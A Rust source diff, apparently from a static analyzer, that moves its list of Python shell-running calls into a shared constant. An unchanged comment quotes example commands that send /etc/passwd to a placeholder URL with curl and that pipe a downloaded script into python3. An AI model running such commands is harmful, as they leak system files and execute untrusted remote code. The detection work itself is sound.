@@ -60,6 +60,15 @@ pub fn may_hit(text: &str) -> bool {
         .any(|w| NEEDED.contains(&w))
 }
 
+/// Calls that hand their string argument to a shell.
+const SHELL_RUNNERS: &[&str] = &[
+    "os.system",
+    "os.popen",
+    "commands.getoutput",
+    "subprocess.getoutput",
+    "subprocess.getstatusoutput",
+];
+
 /// A value as far as the file tells.
 #[derive(Debug, Clone, Default)]
 struct Val {
@@ -741,26 +750,14 @@ impl<'s> Analysis<'s> {
                 | "pickle.loads"
                 | "marshal.loads"
                 | "runpy.run_path"
-        ) || matches!(
-            callee.as_str(),
-            "os.system"
-                | "os.popen"
-                | "commands.getoutput"
-                | "subprocess.getoutput"
-                | "subprocess.getstatusoutput"
-                | "pty.spawn"
-        ) || callee.starts_with("subprocess.")
-            && (shell_true || positional.first().is_some_and(|(a, _)| a.kind() != "list"));
+        ) || SHELL_RUNNERS.contains(&callee.as_str())
+            || callee == "pty.spawn"
+            || callee.starts_with("subprocess.")
+                && (shell_true || positional.first().is_some_and(|(a, _)| a.kind() != "list"));
         // A string a shell runs is shell code: `os.system("cat /etc/passwd | curl -d @- URL")`,
         // `subprocess.run(f"curl -s {u} | python3 -", shell=True)`.
-        let shell_string = matches!(
-            callee.as_str(),
-            "os.system"
-                | "os.popen"
-                | "commands.getoutput"
-                | "subprocess.getoutput"
-                | "subprocess.getstatusoutput"
-        ) || callee.starts_with("subprocess.") && shell_true;
+        let shell_string = SHELL_RUNNERS.contains(&callee.as_str())
+            || callee.starts_with("subprocess.") && shell_true;
         if shell_string {
             if let Some(script) = positional.first().and_then(|(a, v)| self.shell_text(*a, v)) {
                 let mut found = Vec::new();
